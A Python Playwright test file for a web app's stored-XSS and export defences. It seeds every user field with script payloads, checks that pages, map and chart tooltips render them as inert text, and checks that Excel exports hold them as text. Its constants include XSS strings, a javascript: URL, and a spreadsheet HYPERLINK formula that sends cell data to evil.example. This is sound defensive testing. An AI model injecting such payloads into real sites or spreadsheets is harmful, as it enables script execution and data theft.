"""Stored XSS, tried as an attacker would: script payloads in every user-entered field that a
page, tooltip, chart or export shows, then every page visited, the maps' points and areas and
the charts' bars and lines hovered, and the Excel exports opened.

Any script that runs sets ``window.__xss``; a dialog, a CSP violation (reported by the page or
printed on the console) or a ``javascript:`` link fails the test as well. The payloads must be
shown as the literal text they are, and the exports must hold them as text, never formulas.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import select
from sqlalchemy.orm import Session

from coopzone.accounts import service as accounts
from coopzone.accounts.audit import install_audit_hook, set_actor
from coopzone.accounts.models import User
from coopzone.api.app import create_app
from coopzone.cooperation import service as coop
from coopzone.cooperation.schemas import (
    AgreementCreate,
    MeetingCreate,
    MemberIn,
    MilestoneIn,
    ObligationCreate,
    ObligationReportCreate,
    PartyIn,
    ProjectCreate,
    ProjectReportCreate,
    SiteIn,
    TaskCreate,
)
from coopzone.db import SHANGHAI, make_engine, make_session_factory
from coopzone.demo import load_demo
from coopzone.ecology import ledger
from coopzone.ecology.models import Reading, Section, Statement
from coopzone.migrate import upgrade
from tests.e2e.conftest import serve
from tests.helpers import PASSWORD, database_url, make_settings

# 60 characters: fits the shortest text column that shows it (a section's name).
PAYLOAD = '<img src=x onerror=__xss=1>"><script>__xss=1</script>{{7*7}}'
SHORT = "<svg onload=__xss=1>"  # a unit: 20 characters at most
NO_SLASH = "<img src=x onerror=__xss=1>{{7*7}}"  # file names and URL path parts
JS_URL = "javascript:__xss=1//"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")' + PAYLOAD
SECTION = "xss-section"
COUNTY = "430281"  # 醴陵市: the payload records belong to it, so its unit panel lists them

WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
});
"""


@dataclass
class Seeded:
    agreement_id: int
    project_id: int
    indicator_code: str
    statement_id: int
    username: str


def _seed(session: Session, files_dir: Path) -> Seeded:
    """Payloads in every user-entered field, written through the services where they exist."""
    org = accounts.create_organisation(session, PAYLOAD, "ecology_bureau", COUNTY)
    user = accounts.create_user(session, "xss-editor", PASSWORD, PAYLOAD)
    accounts.grant_role(session, user, org, "editor")
    set_actor(session, user.id, PAYLOAD)  # the audit log shows who wrote what
    accounts.create_token(session, user, PAYLOAD, ["read"])
    office_user = session.scalar(select(User).where(User.username == "coop"))
    assert office_user is not None
    office = accounts.principal_for(session, office_user.id)
    writer = accounts.principal_for(session, user.id)

    section = Section(code=SECTION, name=PAYLOAD, river=PAYLOAD, basin=NO_SLASH,
                      province_code="430000", county_code=COUNTY, level="municipal",
                      target_class=3, lng=113.50, lat=27.66)
    session.add(section)
    session.flush()
    for month in range(1, 9):
        at = datetime(2025, month, 10, 8, tzinfo=SHANGHAI)
        session.add_all(Reading(section_id=section.id, measured_at=at, item=item, value=value)
                        for item, value in {"nh3n": 0.4, "codmn": 3.0, "tp": 0.08,
                                            "do": 7.5, "ph": 7.2}.items())

    agreement = coop.create_agreement(session, office, AgreementCreate(
        title=PAYLOAD, parties=[PartyIn(name=PAYLOAD, place_code=COUNTY),
                                PartyIn(name="萍乡市人民政府")],
        field="ecology", signed_on=date(2025, 3, 1), signed_at=JS_URL, status="in_force",
        summary=FORMULA))
    coop.attach_document(session, office, agreement.id, files_dir, NO_SLASH + ".pdf",
                         b"%PDF-1.4 payload")
    obligation = coop.add_obligation(session, office, agreement.id, ObligationCreate(
        description=PAYLOAD, owner=PAYLOAD, due_on=date(2025, 12, 31)))
    coop.report_obligation(session, office, obligation.id, ObligationReportCreate(
        reported_on=date(2025, 6, 1), text=FORMULA))

    meeting = coop.create_meeting(session, office, MeetingCreate(
        title=FORMULA, kind="joint_meeting", series=PAYLOAD, held_on=date(2025, 5, 20),
        place=JS_URL, host=PAYLOAD, members=[MemberIn(name=PAYLOAD)],
        resolutions=[FORMULA]))

    project = coop.create_project(session, writer, ProjectCreate(
        code="XSS-1", name=FORMULA, field="ecology", owner=PAYLOAD, owner_place_code=COUNTY,
        budget=Decimal("1234567.89"), status="under_construction", started_on=date(2025, 1, 1),
        summary=PAYLOAD, sites=[SiteIn(name=PAYLOAD, county_code=COUNTY)],
        milestones=[MilestoneIn(name=PAYLOAD, due_on=date(2025, 6, 30))]))
    coop.report_project(session, writer, project.id, ProjectReportCreate(
        reported_on=date(2025, 7, 1), percent_complete=40, text=PAYLOAD))

    resolution = meeting.resolutions[0].id
    task = coop.create_task(session, office, TaskCreate(
        title=FORMULA, description=PAYLOAD, owner_org_id=org.id, deadline=date(2025, 9, 1),
        resolution_id=resolution))
    coop.move_task(session, writer, task.id, "start", note=PAYLOAD)
    coop.move_task(session, writer, task.id, "submit", note=FORMULA)

    indicator = coop.define_indicator(session, "xss_reported", FORMULA, SHORT, "reported",
                                      target=Decimal("10"), name_en=PAYLOAD, reporter=PAYLOAD,
                                      position=99)
    evidence = coop.store_document(session, files_dir, NO_SLASH + ".xlsx", b"evidence")
    coop.report_value(session, writer, indicator.code, "2025", Decimal("-3"), evidence)

    # A statement line keeps the section's name as computed: name the payload section there.
    statement = session.scalars(select(Statement).order_by(Statement.id)).first()
    assert statement is not None
    ledger.get_statement(session, statement.id).lines[0].section = PAYLOAD
    session.flush()
    return Seeded(agreement.id, project.id, indicator.code, statement.id, user.username)


@pytest.fixture(scope="session")
def xss_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Seeded]]:
    url = database_url(tmp_path_factory, "coopzone_e2e_xss")
    data_dir = tmp_path_factory.mktemp("xss-data")
    engine = make_engine(url)
    upgrade(url, engine=engine)
    factory = make_session_factory(engine)
    install_audit_hook()
    with factory() as session:
        load_demo(session, PASSWORD)
        seeded = _seed(session, data_dir / "files")
        session.commit()
    settings = make_settings(url, as_of=date(2025, 9, 30), data_dir=data_dir)
    with serve(create_app(settings, factory)) as base:
        yield base, seeded
    engine.dispose()


class Watch:
    """What a page did that it must not: ran a payload, opened a dialog, broke the CSP."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.dialogs: list[str] = []
        self.console: list[str] = []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: self.console.append(m.text)
                if "Content Security Policy" in m.text or "Refused to" in m.text else None)

    def check(self, where: str) -> None:
        state = self.page.evaluate("({xss: window.__xss, csp: window.__csp || []})")
        assert state["xss"] is None, f"a payload ran on {where}"
        assert self.dialogs == [], f"a dialog opened on {where}: {self.dialogs}"
        assert state["csp"] == [], f"CSP violations on {where}: {state['csp']}"
        assert self.console == [], f"CSP errors on the console on {where}: {self.console}"
        links = self.page.locator("a[href^='javascript:' i], [src^='javascript:' i]")
        assert links.count() == 0, f"a javascript: link on {where}"


def _context_page(browser: Browser, bypass_csp: bool = False) -> tuple[Page, Watch]:
    context = browser.new_context(locale="zh-CN", viewport={"width": 1400, "height": 1000},
                                  bypass_csp=bypass_csp)
    context.add_init_script(WATCH)
    pg = context.new_page()
    return pg, Watch(pg)


@pytest.fixture
def xss_page(browser: Browser) -> Iterator[tuple[Page, Watch]]:
    pg, watch = _context_page(browser)
    yield pg, watch
    pg.context.close()


@pytest.fixture
def no_csp_page(browser: Browser) -> Iterator[tuple[Page, Watch]]:
    """A browser that ignores the CSP: escaping alone must keep the payloads inert."""
    pg, watch = _context_page(browser, bypass_csp=True)
    yield pg, watch
    pg.context.close()


def _log_in(page: Page, base: str, username: str) -> None:
    page.goto(f"{base}/login")
    page.locator("input[name=username]").fill(username)
    page.locator("input[name=password]").fill(PASSWORD)
    page.locator("#login-form button[type=submit]").click()
    expect(page.locator(".who")).to_be_visible()


def _chart(page: Page, selector: str) -> str:
    return f"echarts.getInstanceByDom(document.querySelector({selector!r}))"


def _tooltip_text(page: Page, selector: str) -> str:
    """The text of the chart's HTML tooltip (the div ECharts puts in the chart's element)."""
    return str(page.evaluate(
        """sel => Array.from(document.querySelector(sel).querySelectorAll("div"))
             .filter(d => d.style.zIndex === "9999999" && d.style.display !== "none")
             .map(d => d.textContent).join(" | ")""", selector))


def _sweep(page: Page, selector: str, steps: int = 9) -> None:
    """Move the mouse over the whole chart, so every area and bar under it shows its tooltip."""
    box = page.locator(selector).bounding_box()
    assert box is not None, selector
    for i in range(1, steps):
        for j in range(1, steps):
            page.mouse.move(box["x"] + box["width"] * i / steps,
                            box["y"] + box["height"] * j / steps)
    page.mouse.move(0, 0)


def _show_every_tip(page: Page, selector: str) -> int:
    """Ask the chart to show the tooltip of every data item of every series (as a hover does)."""
    return int(page.evaluate(
        """sel => {
             const chart = echarts.getInstanceByDom(document.querySelector(sel));
             let n = 0;
             chart.getOption().series.forEach((s, si) => {
               (s.data || []).forEach((_d, di) => {
                 chart.dispatchAction({type: "showTip", seriesIndex: si, dataIndex: di}); n++;
               });
             });
             chart.dispatchAction({type: "hideTip"});
             return n;
           }""", selector))


def _hover_the_payload_section(page: Page, watch: Watch) -> None:
    """Hover the payload section's point on /ecology; its tooltip shows the name as text."""
    point: Any = page.evaluate(
        """name => {
             const chart = echarts.getInstanceByDom(document.getElementById("zone-map"));
             const data = chart.getOption().series[0].data;
             const i = data.findIndex(d => d.name === name);
             return chart.convertToPixel({seriesIndex: 0}, data[i].value);
           }""", PAYLOAD)
    box = page.locator("#zone-map").bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + point[0], box["y"] + point[1])
    page.wait_for_function(
        "() => Array.from(document.querySelectorAll('#zone-map div'))"
        ".some(d => d.style.zIndex === '9999999' && d.style.display !== 'none'"
        " && d.innerHTML.length > 0)")
    page.wait_for_timeout(200)  # an image's onerror fires after the tooltip is drawn
    watch.check("/ecology tooltip")
    assert PAYLOAD + " · I" in _tooltip_text(page, "#zone-map")


def _visit(page: Page, watch: Watch, url: str, shows: str | None = PAYLOAD) -> None:
    response = page.goto(url)
    assert response is not None and response.status == 200, url
    page.wait_for_load_state("networkidle")
    if shows is not None:  # the payload is on the page as the literal text it is
        assert shows in page.locator("body").inner_text(), f"{url} does not show the payload"
    watch.check(url)


def test_payloads_never_run_on_any_page_tooltip_or_chart(
    xss_server: tuple[str, Seeded], xss_page: tuple[Page, Watch]
) -> None:
    base, seeded = xss_server
    page, watch = xss_page

    # The public map of sections: hover the payload section's point and read its tooltip.
    _visit(page, watch, f"{base}/ecology")
    expect(page.locator("#zone-map")).to_have_attribute("data-sections", re.compile(r"^\d+$"))
    _hover_the_payload_section(page, watch)
    assert _show_every_tip(page, "#zone-map") >= 13
    _sweep(page, "#zone-map")
    watch.check("/ecology map")

    _visit(page, watch, f"{base}/ecology/sections/{SECTION}")
    assert _show_every_tip(page, "#readings-chart") >= 1
    _sweep(page, "#readings-chart")
    watch.check("section chart")
    _visit(page, watch, f"{base}/ecology/basins/{quote(NO_SLASH, safe='')}", shows=NO_SLASH)

    _visit(page, watch, f"{base}/map", shows=None)
    _sweep(page, "#zone-map")
    watch.check("/map")

    # The dashboard: indicator cards, projects, the map, the bars, and a unit's htmx panel.
    _visit(page, watch, f"{base}/dashboard")
    expect(page.locator("#dashboard-map")).to_have_attribute("data-ready", "1")
    for chart in ("#dashboard-map", "#chart-field", "#chart-county", "#chart-year"):
        _show_every_tip(page, chart)
        _sweep(page, chart)
    watch.check("dashboard charts")
    page.locator(f"button[data-unit='{COUNTY}']").click()
    expect(page.locator("#unit-panel")).to_contain_text(PAYLOAD)
    watch.check("dashboard unit panel")

    for path in ("/cooperation", "/cooperation/agreements",
                 f"/cooperation/agreements/{seeded.agreement_id}", "/cooperation/meetings",
                 "/cooperation/projects", f"/cooperation/projects/{seeded.project_id}",
                 "/cooperation/indicators", f"/cooperation/indicators/{seeded.indicator_code}",
                 "/ecology/compensation", f"/ecology/compensation/{seeded.statement_id}"):
        _visit(page, watch, base + path,
               shows=None if path in ("/cooperation", "/ecology/compensation") else PAYLOAD)

    # Logged in as the user whose display name, organisation and token are payloads.
    _log_in(page, base, seeded.username)
    watch.check("login")
    for path in ("/", "/account", "/cooperation/tasks", "/dashboard", "/cooperation/meetings",
                 f"/cooperation/indicators/{seeded.indicator_code}"):
        _visit(page, watch, base + path)
    expect(page.locator(".who")).to_have_text(PAYLOAD)
    _visit(page, watch, f"{base}/ecology/import", shows=None)

    # The office's forms list the organisations and resolutions to choose from.
    page.context.clear_cookies()
    _log_in(page, base, "coop")
    _visit(page, watch, f"{base}/cooperation/tasks/new")
    for path in ("/cooperation/meetings/new", "/cooperation/agreements/new",
                 "/cooperation/projects/new", "/cooperation/agreements/import"):
        _visit(page, watch, base + path, shows=None)

    page.context.clear_cookies()
    _log_in(page, base, "admin")
    _visit(page, watch, f"{base}/admin/audit")
    _visit(page, watch, f"{base}/api/v1/docs", shows=None)
    expect(page.locator(".swagger-ui .info")).to_be_visible()
    watch.check("swagger")


def test_escaping_alone_keeps_payloads_inert_without_the_csp(
    xss_server: tuple[str, Seeded], no_csp_page: tuple[Page, Watch]
) -> None:
    base, seeded = xss_server
    page, watch = no_csp_page
    _visit(page, watch, f"{base}/ecology")
    _hover_the_payload_section(page, watch)
    _show_every_tip(page, "#zone-map")
    watch.check("/ecology map without CSP")
    _visit(page, watch, f"{base}/dashboard")
    page.locator(f"button[data-unit='{COUNTY}']").click()
    expect(page.locator("#unit-panel")).to_contain_text(PAYLOAD)
    watch.check("dashboard unit panel without CSP")
    _visit(page, watch, f"{base}/cooperation/agreements/{seeded.agreement_id}")

    # ECharts' own tooltips (no formatter: the readings chart, the dashboard's bars) encode
    # names themselves; this pins that for the vendored version.
    _visit(page, watch, f"{base}/map", shows=None)
    shown = page.evaluate(
        """name => {
             const texts = [];
             for (const trigger of ["axis", "item"]) {
               const el = document.createElement("div");
               el.style.cssText = "width:400px;height:300px";
               document.body.appendChild(el);
               const chart = echarts.init(el, null, {renderer: "svg"});
               chart.setOption({animation: false, tooltip: {trigger: trigger},
                 xAxis: {type: "category", data: [name]}, yAxis: {type: "value"},
                 series: [{type: "bar", name: name, data: [{name: name, value: 3}]}]});
               chart.dispatchAction({type: "showTip", seriesIndex: 0, dataIndex: 0});
               texts.push(Array.from(el.querySelectorAll("div"))
                 .filter(d => d.style.zIndex === "9999999").map(d => d.textContent).join(""));
             }
             return texts;
           }""", PAYLOAD)
    page.wait_for_timeout(200)
    watch.check("ECharts default tooltips")
    assert len(shown) == 2 and all(PAYLOAD in text for text in shown), shown


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_exports_hold_the_payloads_as_text(
    xss_server: tuple[str, Seeded], xss_page: tuple[Page, Watch]
) -> None:
    base, seeded = xss_server
    page, _watch = xss_page
    _log_in(page, base, "coop")
    exports = {
        "/cooperation/agreements.xlsx": (PAYLOAD, FORMULA),
        "/api/v1/cooperation/agreements.xlsx": (PAYLOAD, FORMULA),
        "/cooperation/export/meetings.xlsx": (PAYLOAD, FORMULA),
        "/cooperation/export/projects.xlsx": (PAYLOAD, FORMULA),
        "/cooperation/export/tasks.xlsx": (PAYLOAD, FORMULA),
        "/cooperation/export/indicators.xlsx": (FORMULA,),
        f"/ecology/sections/{SECTION}/monthly.xlsx": (PAYLOAD,),
        f"/ecology/compensation/{seeded.statement_id}/statement.xlsx": (PAYLOAD,),
    }
    for path, expected in exports.items():
        response = page.request.get(base + path)
        assert response.status == 200, path
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="') and "filename*=UTF-8''" in \
            disposition, (path, disposition)
        cells = _cells(response.body())
        assert not [c.coordinate for c in cells if c.data_type == "f"], f"formulas in {path}"
        texts = {c.value for c in cells if c.data_type == "s"}
        for value in expected:
            assert value in texts, (path, value)
        for c in cells:
            if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")):
                assert c.quotePrefix, (path, c.coordinate, c.value)
    # Numbers stay numbers, negative ones too: the project's budget, the reported value.
    projects = _cells(page.request.get(base + "/cooperation/export/projects.xlsx").body())
    assert any(c.value == 1234567.89 and c.data_type == "n" for c in projects)
    indicators = _cells(page.request.get(base + "/cooperation/export/indicators.xlsx").body())
    assert any(c.value == -3 and c.data_type == "n" for c in indicators)
    # The payload-named document downloads under its own name, and nothing else.
    page.goto(f"{base}/cooperation/agreements/{seeded.agreement_id}")
    with page.expect_download() as download:
        page.locator("a[href^='/cooperation/files/']").first.click()
    assert download.value.suggested_filename.endswith(".pdf")
    href = page.locator("a[href^='/cooperation/files/']").first.get_attribute("href")
    headers = page.request.get(base + str(href)).headers
    assert headers["content-disposition"] == (
        'attachment; filename="<img src=x onerror=__xss=1>{{7*7}}.pdf"; '
        "filename*=UTF-8''" + quote(NO_SLASH + ".pdf", safe="") + "")
